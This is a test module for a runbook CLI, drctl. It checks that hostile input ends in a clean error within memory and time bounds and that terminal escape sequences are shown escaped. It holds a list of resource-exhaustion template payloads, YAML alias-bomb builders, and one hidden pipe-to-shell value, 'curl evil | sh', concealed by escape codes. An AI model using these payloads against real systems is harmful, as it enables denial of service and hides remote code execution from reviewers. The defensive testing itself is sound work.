"""Hostile input, generated: every case ends in a value or a clear error, within a bounded
time and memory, never a crash, a hang or a blow-up.

Each case runs in a forked child (the parent has drctl and Jinja imported already, so a
fork costs milliseconds) with an address-space ceiling and an alarm; a case that blows
the ceiling, hangs or dies fails the test instead of the machine. The ceilings are far
above what a bounded case needs and far below what an unbounded one takes, so no
assertion depends on the machine's speed.
"""

from __future__ import annotations

import json
import os
import resource
import signal
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import drctl.cli.app  # imported once here, so a forked case does not import it again
from drctl.compiler.templating import TemplateProblem, render

#: Memory a case may add to the parent's address space.
CASE_MEMORY = 384 * 1024 * 1024
#: Seconds before a case counts as hung (a bounded case takes well under one).
CASE_SECONDS = 10

FUZZ = settings(
    max_examples=50,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)


@dataclass(frozen=True)
class Outcome:
    """How a bounded case ended: ``ok`` with a value, ``error`` with a message, or ``crash``."""

    kind: str
    text: str


def _address_space() -> int:
    with open("/proc/self/statm", encoding="ascii") as fh:
        return int(fh.read().split()[0]) * os.sysconf("SC_PAGE_SIZE")


def bounded(fn: Callable[[], Any], expected: tuple[type[BaseException], ...]) -> Outcome:
    """Run ``fn`` in a forked child under a memory ceiling and an alarm."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: never returns into pytest
        os.close(read)
        code = 0
        try:
            limit = _address_space() + CASE_MEMORY
            resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
            signal.alarm(CASE_SECONDS)
            try:
                value = fn()
                shown = value if isinstance(value, str) else repr(value)
                result = {"kind": "ok", "text": shown[:4000]}
            except expected as exc:
                result = {"kind": "error", "text": str(getattr(exc, "message", exc))}
            except BaseException as exc:
                result = {"kind": "crash", "text": f"{type(exc).__name__}: {exc}"[:500]}
            os.write(write, json.dumps(result).encode())
        except BaseException:
            code = 3
        finally:
            os._exit(code)
    os.close(write)
    chunks = []
    while chunk := os.read(read, 65536):
        chunks.append(chunk)
    os.close(read)
    _, status = os.waitpid(pid, 0)
    if not chunks:
        why = (
            f"killed by signal {os.WTERMSIG(status)}"
            if os.WIFSIGNALED(status)
            else f"exit {os.WEXITSTATUS(status)}"
        )
        return Outcome(
            "crash", f"the case died ({why}): hung past {CASE_SECONDS}s or out of memory"
        )
    data = json.loads(b"".join(chunks))
    return Outcome(data["kind"], data["text"])


def drctl_bounded(
    *args: str, cwd: Path, memory: int = 768 * 1024 * 1024
) -> subprocess.CompletedProcess[str]:
    """The real CLI in a fresh interpreter with an address-space ceiling and a timeout."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    env = {k: v for k, v in os.environ.items() if k != "DRCTL_DEBUG"}
    try:
        return subprocess.run(
            [sys.executable, "-m", "drctl", *args],
            capture_output=True,
            text=True,
            errors="replace",
            cwd=cwd,
            env=env,
            timeout=60,
            check=False,
            preexec_fn=limit,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"drctl {' '.join(args)} hung")


def assert_clean_refusal(proc: subprocess.CompletedProcess[str], fragment: str = "") -> None:
    out = proc.stdout + proc.stderr
    assert proc.returncode == 2, out
    assert "Traceback" not in out and "internal error" not in out, out
    assert fragment in out, out


# -- templates ------------------------------------------------------------------

#: Payloads from the issue: each used to allocate gigabytes, hang, or raise RecursionError.
RUNAWAY = {
    "ljust": "{{ 'x'.ljust(2000000000) }}",
    "rjust": "{{ 'x'.rjust(2000000000) }}",
    "center": "{{ 'x'.center(2000000000) }}",
    "zfill": "{{ 'x'.zfill(2000000000) }}",
    "expandtabs": "{{ ('\\t' * 1000).expandtabs(2000000) }}",
    "percent-width": "{{ '%0999999999d' % 1 }}",
    "percent-star": "{{ '%*d' % (999999999, 1) }}",
    "percent-precision": "{{ '%.999999999f' % 1.0 }}",
    "format-width": "{{ '{:>999999999}'.format(1) }}",
    "format-nested-width": "{{ '{:{w}}'.format(1, w=999999999) }}",
    "format-map": "{{ '{x:>999999999}'.format_map({'x': 1}) }}",
    "join-method": "{{ ('x' * 90000).join(['a'] * 90000) }}",
    "join-filter": "{{ (['x' * 90000] * 20) | join }}",
    "replace-method": "{{ ('x' * 100000).replace('', 'yyyyyyyyyyyy') }}",
    "replace-filter": "{{ ('x' * 100000) | replace('x', 'yyyyyyyyyyyyyyy') }}",
    "translate": "{{ ('a' * 1000).translate({97: 'b' * 10000}) }}",
    "power-chain": "{{ 2 ** 64 ** 64 }}",
    "small-powers": "{{ ((2 ** 60) ** 60) ** 60 }}",
    "concat": "{% set s = 'x' * 99999 %}{{ s ~ s ~ s ~ s ~ s ~ s ~ s ~ s ~ s ~ s ~ s }}",
    "output": "{% set s = 'x' * 99999 %}" + "{{ s }}" * 20,
    "shared-list": "{% set s = 'x' * 99999 %}{{ [s, s, s, s, s, s, s, s, s, s, s, s] }}",
    "batch-fill": "{{ [1] | batch(1000000000, 'x') | list }}",
    "indent": "{{ 'x' | indent(1000000000) }}",
    "tojson-indent": "{{ range(100000) | list | tojson(indent=100) }}",
    "attribute-chain": "{{ params" + ".a" * 3000 + " }}",
    "filter-chain": "{{ 'a'" + " | upper" * 3000 + " }}",
    "plus-chain": "{{ 1" + " + 1" * 3000 + " }}",
    "parentheses": "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
}


@pytest.mark.parametrize("template", list(RUNAWAY.values()), ids=list(RUNAWAY))
def test_a_runaway_template_is_a_template_error_within_bounds(template: str) -> None:
    """Padding, widths, %, join, replace, ** chains and long chains stop with TemplateProblem."""
    outcome = bounded(lambda: render(template, {"params": {"a": {}}}), (TemplateProblem,))
    assert outcome.kind == "error", outcome
    assert "RecursionError" not in outcome.text


def test_a_runaway_template_in_a_runbook_is_a_located_exit_2(tmp_path: Path) -> None:
    """validate names file:line:col and exits 2 for over-budget templates, under a memory ceiling."""
    steps = "".join(
        f"  - id: s{i}\n    type: shell\n    with:\n      command: {json.dumps(t)}\n      mutates: false\n"
        for i, t in enumerate(RUNAWAY.values())
    )
    text = (
        "apiVersion: drctl/v1\nkind: Runbook\nmetadata: {name: t}\nparams:\n"
        "  a: {type: map, default: {}}\nsteps:\n" + steps
    )
    (tmp_path / "rb.yaml").write_text(text, encoding="utf-8")
    proc = drctl_bounded("validate", "rb.yaml", cwd=tmp_path)
    assert_clean_refusal(proc)
    located = [line for line in proc.stdout.splitlines() if line.startswith("rb.yaml:")]
    assert len(located) == len(RUNAWAY), proc.stdout


#: Building blocks for generated templates: each is small, some amplify.
_ATOMS = st.sampled_from(
    [
        "'x'",
        "'ab\\t'",
        "'%5d'",
        "'{:>9}'",
        "1",
        "2",
        "7",
        "64",
        "[1, 2]",
        "['a', 'b']",
        "params.n",
        "params.s",
    ]
)
_UNARY = st.sampled_from(
    [
        "({}).ljust({n})", "({}).center({n})", "({}).zfill({n})", "({}).expandtabs({n})",
        "({}) * {n}", "({}) ** {n}", "({}) % {n}", "({}).format({n})", "({}) | join",
        "({}) | replace('', 'xyz' * {n})", "({}).replace('a', 'b' * {n})", "({}) ~ ({})",
        "[({}), ({})]", "({}) | list", "({}) | batch({n}, 0)", "({}) | indent({n})",
        "({}) + ({})", "({}) | string", "({}) | tojson",
    ]
)  # fmt: skip
_SIZES = st.sampled_from([10**9, 2**31, 10**6, 99999, 64, 3, 0])


@st.composite
def _expressions(draw: st.DrawFn, depth: int = 4) -> str:
    expr = draw(_ATOMS)
    for _ in range(draw(st.integers(1, depth))):
        shape = draw(_UNARY)
        expr = shape.replace("{n}", str(draw(_SIZES))).replace("{}", expr)
    return expr


@FUZZ
@given(_expressions())
def test_generated_templates_end_in_a_value_or_a_template_error(expr: str) -> None:
    """Any composition of amplifying operations renders or is refused, within time and memory."""
    template = "{{ " + expr + " }}"
    context = {"params": {"n": 3, "s": "abc"}}
    outcome = bounded(lambda: render(template, context), (TemplateProblem,))
    assert outcome.kind in ("ok", "error"), (template, outcome)


# -- YAML -----------------------------------------------------------------------


def _load_error(text: str) -> Outcome:
    from drctl.errors import RunbookInvalid
    from drctl.runbook.source import load_yaml

    def run() -> str:
        try:
            load_yaml(text, "f.yaml")
        except RunbookInvalid as exc:
            d = exc.diagnostics[0]
            raise ValueError(
                json.dumps([d.code, d.position.line, d.position.column] if d.position else [d.code])
            ) from None
        return "loaded"

    return bounded(run, (ValueError,))


@pytest.mark.parametrize("copies", [2000, 40])
def test_a_large_scalar_repeated_by_alias_is_e102_within_bounds(copies: int) -> None:
    """Alias expansion is bounded by the text it expands to, not only by the number of values."""
    big = "x" * (4 * 1024 * 1024 // 40 + 1)
    text = "a: &a '" + big + "'\nb: [" + ", ".join(["*a"] * copies) + "]\n"
    outcome = _load_error(text)
    assert outcome.kind == "error", outcome
    assert json.loads(outcome.text)[0] == "E102"


def test_a_large_scalar_repeated_by_alias_stops_validate_within_bounds(tmp_path: Path) -> None:
    """validate refuses one large scalar referenced 2,000 times with E102, under a memory ceiling."""
    big = "x" * 200_000
    text = (
        "apiVersion: drctl/v1\nkind: Runbook\nmetadata: {name: t, description: &big '"
        + big
        + "'}\nsteps:\n  - id: a\n    type: shell\n    with: {command: echo, mutates: false}\n"
        + "x-refs: ["
        + ", ".join(["*big"] * 2000)
        + "]\n"
    )
    (tmp_path / "rb.yaml").write_text(text, encoding="utf-8")
    proc = drctl_bounded("validate", "rb.yaml", cwd=tmp_path)
    assert_clean_refusal(proc, "rb.yaml:8:")
    assert "E102" in proc.stdout


_LINE_TEXT = st.text(
    alphabet=st.sampled_from(["a", "Z", "é", "😀", "\u2028", "\u2029", "\x85", "\t", " ", ":"]),
    max_size=12,
)


@FUZZ
@given(
    before=st.lists(_LINE_TEXT, max_size=6),
    after=st.lists(_LINE_TEXT, max_size=3),
    eol=st.sampled_from(["\n", "\r\n", "\r"]),
    bom=st.booleans(),
    final_eol=st.booleans(),
)
def test_yaml_errors_are_located_as_an_editor_numbers_lines(
    before: list[str], after: list[str], eol: str, bom: bool, final_eol: bool
) -> None:
    """Under LF, CRLF, CR, a BOM, tabs and Unicode line separators, an error is at its line and column."""
    lines = [f"k{i}: '{v}'" for i, v in enumerate(before)]
    lines.append("bad: }")
    lines += [f"z{i}: '{v}'" for i, v in enumerate(after)]
    text = ("\ufeff" if bom else "") + eol.join(lines) + (eol if final_eol else "")
    outcome = _load_error(text)
    assert outcome.kind == "error", (text, outcome)
    assert json.loads(outcome.text) == ["E101", len(before) + 1, 6], repr(text)


@FUZZ
@given(
    body=st.lists(_LINE_TEXT, min_size=1, max_size=4),
    eol=st.sampled_from(["\n", "\r\n", "\r"]),
    final_eol=st.booleans(),
    tail=st.sampled_from(["b: [", "b: {", "b: '", 'b: "x', "b: [1, ", "- x", "b: &"]),
)
def test_an_error_at_the_end_of_a_file_is_inside_the_file(
    body: list[str], eol: str, final_eol: bool, tail: str
) -> None:
    """An error found at the end of input names a line and column that exist in the file."""
    lines = [f"k{i}: '{v}'" for i, v in enumerate(body)] + [tail]
    text = eol.join(lines) + (eol if final_eol else "")
    outcome = _load_error(text)
    assert outcome.kind == "error", (text, outcome)
    got = json.loads(outcome.text)
    assert len(got) == 3, got
    _, line, col = got
    shown = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    if final_eol:
        shown.pop()
    assert 1 <= line <= len(shown), (repr(text), got)
    assert 1 <= col <= len(shown[line - 1]) + 1, (repr(text), got)


# -- fan-out --------------------------------------------------------------------


def _fan_out_runbook(items: int, settings_line: str = "") -> str:
    ids = ", ".join(f"i{i}" for i in range(items))
    return (
        "apiVersion: drctl/v1\nkind: Runbook\nmetadata: {name: fo}\n"
        + settings_line
        + f"params:\n  ids: {{type: list, default: [{ids}]}}\nsteps:\n"
        '  - id: s\n    type: shell\n    for_each: "{{ params.ids }}"\n'
        '    with: {command: "echo {{ item }}", mutates: false}\n'
    )


def test_a_100000_step_fan_out_is_refused_up_front_naming_the_setting(tmp_path: Path) -> None:
    """plan refuses a 100,000-item for_each before expanding it, naming the limit and settings.max_steps."""
    (tmp_path / "rb.yaml").write_text(_fan_out_runbook(100_000), encoding="utf-8")
    proc = drctl_bounded("plan", "rb.yaml", cwd=tmp_path, memory=640 * 1024 * 1024)
    assert_clean_refusal(proc, "rb.yaml:9:15: error E270: for_each gives 100000 items")
    assert "more than 10000 steps" in proc.stdout + proc.stderr
    assert "settings: {max_steps: N}" in proc.stdout + proc.stderr


@pytest.mark.parametrize(("limit", "code"), [(4, 2), (6, 0)])
def test_settings_max_steps_sets_the_fan_out_limit(tmp_path: Path, limit: int, code: int) -> None:
    """settings.max_steps is the limit: five instances pass at six and are refused at four."""
    text = _fan_out_runbook(5, f"settings: {{max_steps: {limit}}}\n")
    (tmp_path / "rb.yaml").write_text(text, encoding="utf-8")
    proc = drctl_bounded("validate", "rb.yaml", cwd=tmp_path)
    assert proc.returncode == code, proc.stdout + proc.stderr
    assert (f"more than {limit} steps" in proc.stdout) == (code == 2), proc.stdout


# -- -p values and params files ---------------------------------------------------

#: Whole CLI runs cost more than a render: fewer examples.
CLI_FUZZ = settings(FUZZ, max_examples=20)

RUNBOOKS = Path(__file__).resolve().parents[2] / "runbooks"


def run_main(*args: str) -> tuple[int, str]:
    """``drctl ARGS`` through main() in this process, writing to strict UTF-8 streams as a terminal does."""
    import contextlib
    import io
    from unittest import mock

    main = drctl.cli.app.main
    out_bytes, err_bytes = io.BytesIO(), io.BytesIO()
    out = io.TextIOWrapper(out_bytes, encoding="utf-8", errors="strict")
    err = io.TextIOWrapper(err_bytes, encoding="utf-8", errors="strict")
    code: int | str | None = 0
    env = {k: v for k, v in os.environ.items() if k != "DRCTL_DEBUG"}
    with (
        mock.patch.object(sys, "argv", ["drctl", *args]),
        mock.patch.dict(os.environ, env, clear=True),
        contextlib.redirect_stdout(out),
        contextlib.redirect_stderr(err),
    ):
        try:
            main()
        except SystemExit as exc:
            code = exc.code
    out.flush()
    err.flush()
    text = (out_bytes.getvalue() + err_bytes.getvalue()).decode("utf-8")
    return (code if isinstance(code, int) else 1), text


@pytest.fixture(scope="module", autouse=True)
def _warm() -> None:
    """Build the template environment and caches in the parent, so forked cases reuse them."""
    run_main("plan", str(RUNBOOKS / "shell-demo.yaml"))


def assert_cli_clean(outcome: Outcome) -> None:
    assert outcome.kind == "ok", outcome
    assert "internal error" not in outcome.text and "Traceback" not in outcome.text, outcome
    assert outcome.text.startswith(("(0,", "(2,")), outcome


def argv_text(raw: bytes) -> str:
    """``raw`` as Python receives it in argv (undecodable bytes as lone surrogates)."""
    return raw.decode("utf-8", "surrogateescape")


@CLI_FUZZ
@given(raw=st.binary(max_size=24), name=st.sampled_from(["workdir", "shards", "wor\xffk"]))
def test_any_bytes_in_a_p_value_are_text_or_a_clear_error(raw: bytes, name: str) -> None:
    """-p NAME=<any bytes> plans, or is refused with exit 2; never exit 70."""
    flag = argv_text(name.encode("latin-1") + b"=" + raw)
    path = str(RUNBOOKS / "shell-demo.yaml")

    def every_format() -> list[tuple[int, str]]:
        return [
            run_main("plan", path, "--format", f, "-p", flag) for f in ("text", "json", "markdown")
        ]

    outcome = bounded(every_format, ())
    assert outcome.kind == "ok", outcome
    assert "internal error" not in outcome.text and "Traceback" not in outcome.text, outcome
    assert all(f"({c}," not in outcome.text for c in (1, 70)), outcome


def test_a_non_utf8_p_value_names_the_flag_and_the_byte() -> None:
    """A -p value with a byte that is not UTF-8 is E230 naming the flag, the byte and its offset."""
    flag = argv_text(b"workdir=ab\xff\xfe")
    outcome = bounded(lambda: run_main("plan", str(RUNBOOKS / "shell-demo.yaml"), "-p", flag), ())
    assert outcome.kind == "ok", outcome
    assert outcome.text.startswith("(2,"), outcome
    assert (
        "-p workdir=ab\\\\xff\\\\xfe: error E230: not UTF-8 text (invalid byte 0xff at offset 10)"
        in outcome.text
    )


# -- templated target fields ------------------------------------------------------

TARGET_RUNBOOK = """\
apiVersion: drctl/v1
kind: Runbook
metadata: {{name: t}}
params:
  v: {{type: {kind}, default: {default}}}
targets:
  box: {{type: ssh, host: h, user: u, {field}: "{{{{ params.v }}}}"}}
steps:
  - id: a
    type: ssh.run
    target: box
    with: {{command: echo, mutates: false}}
"""


def _target_case(tmp_path: Path, field: str, kind: str, default: str) -> Outcome:
    (tmp_path / "rb.yaml").write_text(
        TARGET_RUNBOOK.format(field=field, kind=kind, default=default), encoding="utf-8"
    )
    return bounded(lambda: run_main("validate", str(tmp_path / "rb.yaml")), ())


def test_a_misspelt_target_key_holding_a_template_is_e201(tmp_path: Path) -> None:
    """known_hots: "{{ params.v }}" is an unknown field with a suggestion, not silently ignored."""
    outcome = _target_case(tmp_path, "known_hots", "str", "/etc/kh")
    assert outcome.text.startswith("(2,"), outcome
    assert "rb.yaml:7:38: error E201: targets.box.known_hots: unknown field" in outcome.text
    assert "known_hosts" in outcome.text


def test_a_template_rendering_an_invalid_port_is_located_at_the_template(tmp_path: Path) -> None:
    """A port template rendering -1 is E200 at the template, saying what it rendered; not exit 70."""
    outcome = _target_case(tmp_path, "port", "int", "-1")
    assert outcome.text.startswith("(2,"), outcome
    assert (
        "rb.yaml:7:44: error E200: targets.box.port: input should be greater than or equal to 1 "
        "(its template rendered '-1')"
    ) in outcome.text, outcome


@CLI_FUZZ
@given(
    field=st.sampled_from(["port", "agent", "connect_timeout", "known_hosts", "host", "prot", "x"]),
    param=st.one_of(
        st.tuples(st.just("int"), st.integers(-(2**70), 2**70).map(str)),
        st.tuples(
            st.just("str"),
            st.text(st.characters(categories=("L", "N", "P", "S", "Zs")), max_size=8).map(
                lambda t: json.dumps(t, ensure_ascii=False)
            ),
        ),
        st.sampled_from(
            [("list", "[1, 2]"), ("map", "{a: 1}"), ("bool", "true"), ("float", "1.5")]
        ),
    ),
)
def test_any_rendered_target_value_validates_or_is_a_located_error(
    field: str, param: tuple[str, str], tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Whatever a target field's template renders, validate exits 0 or 2 with a located error."""
    outcome = _target_case(tmp_path_factory.mktemp("tg"), field, *param)
    assert outcome.kind == "ok", outcome
    assert "internal error" not in outcome.text, outcome
    assert outcome.text.startswith(("(0,", "(2,")), outcome
    if outcome.text.startswith("(2,"):
        assert "rb.yaml:7:" in outcome.text, outcome


# -- escape sequences in what drctl shows -----------------------------------------

#: Characters that move the cursor, erase, retitle, reorder or hide text on a terminal.
HOSTILE_CHARS = [
    "\x1b",
    "\x9b",
    "\x07",
    "\x08",
    "\x7f",
    "\r",
    "\t",
    "\u202e",
    "\u200b",
    "\u2028",
    "\ufeff",
    "\x00",
]
_HOSTILE_TEXT = st.lists(
    st.one_of(
        st.sampled_from(HOSTILE_CHARS), st.sampled_from(["echo hi", "[2K", "]0;t", "é", " "])
    ),
    min_size=1,
    max_size=8,
).map("".join)


def assert_visible(output: str) -> None:
    """Nothing in ``output`` but line feeds and characters shown as themselves."""
    import unicodedata

    hidden = {
        c
        for c in output
        if c != "\n" and (unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp", "Cs"})
    }
    assert not hidden, (sorted(hidden), output[:2000])


def _hostile_runbook(tmp_path: Path, text: str, name: str) -> str:
    # YAML double quotes with JSON's escapes carry any character but NUL and surrogates.
    quoted = json.dumps(text.replace("\x00", ""))
    path = tmp_path / name
    path.write_text(
        "apiVersion: drctl/v1\nkind: Runbook\n"
        f"metadata: {{name: t, description: {quoted}}}\n"
        f"params:\n  v: {{type: str, default: {quoted}}}\n"
        "steps:\n  - id: a\n    type: shell\n"
        f"    description: {quoted}\n"
        '    with: {command: "echo {{ params.v }}", mutates: false}\n',
        encoding="utf-8",
    )
    return str(path)


@FUZZ
@given(text=_HOSTILE_TEXT)
def test_plans_and_diffs_show_escape_sequences_escaped(
    text: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Plan and diff, as text, markdown and JSON, show control and format characters escaped."""
    from drctl.compiler.compile import compile_runbook
    from drctl.compiler.diff import diff_plans
    from drctl.render import diff as render_diff
    from drctl.render import plan as render_plan

    tmp = tmp_path_factory.mktemp("esc")
    plan = compile_runbook(_hostile_runbook(tmp, text, "new.yaml"))
    old = compile_runbook(_hostile_runbook(tmp, "plain", "old.yaml"))
    diff = diff_plans(old, plan)
    for shown in (
        render_plan.as_text(plan),
        render_plan.as_markdown(plan),
        render_diff.as_text(diff, "old", text),
        render_diff.as_markdown(diff, "old", text),
    ):
        assert_visible(shown)
    for shown in (render_plan.as_json(plan), render_diff.as_json(diff, "old", text)):
        assert_visible(shown)
        json.loads(shown)
    assert json.loads(render_plan.as_json(plan))["description"] == text.replace("\x00", "")


@FUZZ
@given(text=_HOSTILE_TEXT)
def test_diagnostics_and_reviews_show_escape_sequences_escaped(text: str) -> None:
    """Diagnostics (text, JSON, GitHub) and the review comment show control characters escaped."""
    from drctl.diagnostics import Diagnostic, Position
    from drctl.render import diagnostics as render_diagnostics
    from drctl.render.review import ChangeKind, RunbookChange, Version

    diag = Diagnostic("E230", f"unknown parameter {text}", f"-p {text}", Position(1, 1), hint=text)
    for shown in (
        render_diagnostics.as_text([diag]),
        render_diagnostics.as_github([diag]),
        render_diagnostics.as_json([diag], [text]),
    ):
        assert_visible(shown)
    assert json.loads(render_diagnostics.as_json([diag], [text]))["diagnostics"][0]["hint"] == text
    from drctl.render.review import as_markdown

    change = RunbookChange(
        text, ChangeKind.modified, Version(text), Version(text, diagnostics=(diag,))
    )
    assert_visible(as_markdown(text, text, [change]))


def test_plan_on_a_terminal_shows_a_hidden_command_escaped(tmp_path: Path) -> None:
    """drctl plan prints the escape sequences of a -p value escaped, so 'curl … | sh' cannot hide."""
    value = "curl evil | sh\r\x1b[2Kecho hello"
    outcome = bounded(
        lambda: run_main("plan", str(RUNBOOKS / "shell-demo.yaml"), "-p", f"workdir={value}")[1],
        (),
    )
    assert "\\r\\u001b[2Kecho hello" in outcome.text, outcome
    assert "\x1b" not in outcome.text


@pytest.mark.parametrize("opener", ["[", '{"a": '])
def test_a_deeply_nested_p_value_is_e102_not_a_recursion_error(opener: str) -> None:
    """-p shards=[[[[… (100,000 levels) is a nesting error, not RecursionError (exit 70)."""
    flag = "shards=" + opener * 100_000
    outcome = bounded(
        lambda: run_main("plan", str(RUNBOOKS / "shell-demo.yaml"), "-p", flag)[1], ()
    )
    assert outcome.kind == "ok", outcome
    assert "error E102: nesting deeper than 64 levels" in outcome.text, outcome
    assert "RecursionError" not in outcome.text


def test_a_refused_fan_out_does_not_count_against_the_next_one(tmp_path: Path) -> None:
    """After one for_each is refused for its size, a small one later in the runbook is not refused too."""
    text = _fan_out_runbook(20_000) + (
        "  - id: t\n    type: shell\n    for_each: [a, b]\n"
        '    with: {command: "echo {{ item }}", mutates: false}\n'
    )
    (tmp_path / "rb.yaml").write_text(text, encoding="utf-8")
    proc = drctl_bounded("validate", "rb.yaml", cwd=tmp_path)
    assert_clean_refusal(proc, "for_each gives 20000 items")
    assert "for_each gives 2 items" not in proc.stdout, proc.stdout
